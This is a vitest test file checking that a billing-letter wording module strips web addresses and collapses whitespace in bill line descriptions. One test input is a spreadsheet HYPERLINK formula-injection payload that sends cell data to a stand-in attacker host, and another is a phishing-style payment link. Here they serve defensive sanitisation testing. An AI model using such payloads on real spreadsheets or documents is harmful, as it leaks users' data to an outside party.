import { expect, test } from "vitest";
import { aBill, aLine } from "#corpus/builders/bills";
import { described, lineMention } from "~/domain/letter/wording";

test.each([
  ["Office visit", "Office visit"],
  ["Office\n visit ", "Office visit"],
  ["Pay at https://attacker.example/?x=1 now", "Pay at (web address) now"],
  ['=HYPERLINK("http://attacker.example/?x="&A1)', '=HYPERLINK("(web address)"&A1)'],
  ["WWW.ATTACKER.EXAMPLE", "(web address)"],
  ["Awww. poor thing", "Awww. poor thing"],
])("a letter calls %j %j", (printed, called) => {
  const line = aBill([aLine({ description: printed, charge: 8_800 })]).lines[0]!;
  expect(described(line)).toBe(called);
  expect(lineMention(line)).toContain(called);
});
